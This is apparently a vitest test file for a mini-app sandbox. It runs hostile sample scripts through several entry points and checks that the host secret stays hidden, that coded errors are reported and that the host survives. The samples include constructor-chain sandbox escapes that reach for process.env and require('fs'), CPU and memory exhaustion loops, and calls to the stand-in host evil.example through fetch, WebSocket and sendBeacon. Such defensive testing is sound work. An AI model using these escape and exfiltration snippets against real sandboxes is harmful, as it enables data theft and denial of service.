import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { launch } from '../src/testing/index.js';
import { parseJsonOutput, runCli } from './helpers/cli.js';
import { doneOf, testHost } from './helpers/host-apps.js';
import { tempDir } from './helpers/host-fixtures.js';

/**
 * One table of hostile mini-programs, each tried through every entry point that runs a package: `miniapp
 * run`, `miniapp conformance`, a host (createHostManager) and miniapp/testing with the sandbox. Each
 * must end with the same coded outcome everywhere, leak nothing of the host (a secret in the CLI's
 * environment, a file beside the app), and leave the host and a second app alive.
 */
const SECRET = `host-secret-${process.pid}-${Date.now()}`;

interface Hostile {
  name: string;
  script: string;
  /** The run's coded errors (one of them at least), or 'clean' for an app whose attempts must all come to nothing. */
  runCodes: string[];
  /** A check conformance fails with. */
  conformanceCheck: string;
  /** How its sandbox ends in a host: a limit, or still running with DONE printed. */
  host: { exit: string } | { done: unknown };
}

const HOSTILE: Hostile[] = [
  {
    name: 'reaching Node through constructor chains, globals and the bridge',
    script: `
      const reached = [];
      const tries = {
        'document.constructor.constructor': () => document.constructor.constructor('return process')(),
        'window.constructor.constructor': () => window.constructor.constructor('return process')(),
        'MiniAppBridge.call.constructor': () => MiniAppBridge.call.constructor('return process')(),
        'a bridge error': async () => { try { await MiniAppBridge.call('no.such', {}); } catch (e) { return e.constructor.constructor('return process')(); } },
        'Buffer on window': () => window.Buffer.from('x').constructor.constructor('return process')(),
        'process global': () => process,
        'require global': () => require('fs'),
      };
      (async () => {
        for (const [name, attempt] of Object.entries(tries)) {
          try { const p = await attempt(); if (p && (p.env || p.readFileSync)) reached.push(name + ': ' + JSON.stringify(p.env || 'fs')); } catch {}
        }
        console.log('DONE ' + JSON.stringify({ reached }));
      })();`,
    runCodes: ['RUN_ESCAPE_ATTEMPT'],
    conformanceCheck: 'policy.escape-attempts',
    host: { done: { reached: [] } },
  },
  {
    name: 'a busy loop after the first bridge call',
    script: `MiniAppBridge.call('device.info', {}).then(() => { for (;;) {} });`,
    runCodes: ['APP_LIMIT_EXCEEDED'],
    conformanceCheck: 'budget.cpu',
    host: { exit: 'CPU_LIMIT' },
  },
  {
    name: 'ArrayBuffers past the memory limit',
    script: `window.keep = []; setTimeout(function grow() { keep.push(new Uint8Array(8 << 20).fill(1)); setTimeout(grow, 5); }, 0);`,
    runCodes: ['APP_LIMIT_EXCEEDED'],
    conformanceCheck: 'budget.memory',
    host: { exit: 'MEMORY_LIMIT' },
  },
  {
    name: 'the network outside allowedDomains, every way a page has',
    script: `
      fetch('https://evil.example/f').catch(() => {});
      new Image().src = 'https://evil.example/i.png';
      try { new WebSocket('wss://evil.example/ws'); } catch {}
      navigator.sendBeacon?.('https://evil.example/b', 'x');
      setTimeout(() => console.log('DONE ' + JSON.stringify({ sent: true })), 200);`,
    runCodes: ['DOMAIN_NOT_ALLOWED'],
    conformanceCheck: 'policy.network',
    host: { done: { sent: true } },
  },
];

const MANIFEST = { version: '1.0.0', minHostVersion: '3.0.0', entryPoint: 'index.html', permissions: ['storage', 'device'], allowedDomains: ['api.partner.com'] };

function appDir(id: string, script: string): string {
  const dir = join(tempDir('miniapp-escapes-'), 'app');
  mkdirSync(dir);
  writeFileSync(join(dir, 'manifest.json'), JSON.stringify({ id, ...MANIFEST }));
  writeFileSync(join(dir, 'index.html'), '<!doctype html><body><p id="status">loaded</p><script src="app.js"></script></body>');
  writeFileSync(join(dir, 'app.js'), script);
  // A file of the host's beside the app: the sandbox must not see it.
  writeFileSync(join(dir, '..', 'host-secret.txt'), SECRET);
  return dir;
}

const codes = (list: Array<{ code: string }>) => list.map((e) => e.code);

describe.each(HOSTILE.map((h, i) => [h.name, h, i] as const))('a hostile app: %s', (_name, hostile, i) => {
  const id = `com.partner.hostile${i}`;

  it('miniapp run: coded errors, exit 1, nothing of the host in the report', async () => {
    const dir = appDir(id, hostile.script);
    const r = await runCli(['run', dir, '--json', '--timeout', '15000', '--data-dir', join(dir, '..', 'data'), '--host-key-file', join(dir, '..', 'host.key')], {
      env: { MINIAPP_TEST_SECRET: SECRET },
      timeoutMs: 60_000,
    });
    expect(r.code).toBe(1);
    const out = parseJsonOutput(r.stdout);
    expect(codes(out.errors)).toEqual(expect.arrayContaining(hostile.runCodes));
    expect(out.result.isolation.level).not.toBe('in-process');
    expect(r.stdout + r.stderr).not.toContain(SECRET);
    if ('done' in hostile.host) expect(out.result.console.map((c: { text: string }) => c.text)).toContain(`DONE ${JSON.stringify(hostile.host.done)}`);
  }, 60_000);

  it('miniapp conformance: fails the check, nothing of the host in the report', async () => {
    const dir = appDir(id, hostile.script);
    const r = await runCli(['conformance', dir, '--json', '--allow-weak-isolation'], { env: { MINIAPP_TEST_SECRET: SECRET }, timeoutMs: 90_000 });
    expect(r.code).toBe(1);
    const out = parseJsonOutput(r.stdout);
    const failed = out.result.checks.filter((c: { status: string }) => c.status === 'failed').map((c: { name: string }) => c.name);
    expect(failed).toContain(hostile.conformanceCheck);
    expect(r.stdout + r.stderr).not.toContain(SECRET);
  }, 90_000);

  it('a host: the app ends as expected, the host and a second app stay alive', async () => {
    const host = await testHost();
    try {
      await host.install(id, hostile.script);
      await host.install('com.partner.bystander', "window.addEventListener('click', () => MiniAppBridge.call('device.info', {}).then(() => console.log('DONE 1')));");
      const bystander = await host.manager.launch('com.partner.bystander');
      const app = await host.manager.launch(id).catch((err: Error) => err);
      if ('exit' in hostile.host) {
        const exit = app instanceof Error ? { reason: String((app as Error & { args?: { reason?: string } }).args?.reason) } : await app.exited;
        expect(exit.reason).toBe(hostile.host.exit);
      } else {
        if (app instanceof Error) throw app;
        expect(await doneOf(app, 10_000)).toEqual(hostile.host.done);
      }
      await bystander.host.dom('click', 'body');
      expect(await doneOf(bystander, 10_000)).toBe(1);
    } finally {
      await host.manager.close();
    }
  }, 60_000);

  it('miniapp/testing with the sandbox: the same outcome, and the test process stays alive', async () => {
    const dir = appDir(id, hostile.script);
    const launched = await launch(dir, { isolation: 'sandbox', idleTimeoutMs: 3000 }).catch((err: Error & { code?: string }) => err);
    // A limit broken while the page loads rejects the launch with its code.
    if (launched instanceof Error) {
      expect('exit' in hostile.host && (launched as Error & { code?: string }).code).toBe('APP_LIMIT_EXCEEDED');
      return;
    }
    const app = launched;
    try {
      expect(app.isolation.level).not.toBe('in-process');
      expect(() => app.document).toThrow(/sandbox process/);
      if ('done' in hostile.host) {
        const until = Date.now() + 10_000;
        while (!app.console.some((c) => c.text.startsWith('DONE ')) && Date.now() < until) await new Promise((r) => setTimeout(r, 20));
        expect(app.console.map((c) => c.text)).toContain(`DONE ${JSON.stringify(hostile.host.done)}`);
        expect(await app.textOf('#status')).toBe('loaded');
      }
    } finally {
      await app.close();
    }
    expect(process.exitCode ?? 0).toBe(0);
  }, 60_000);
});
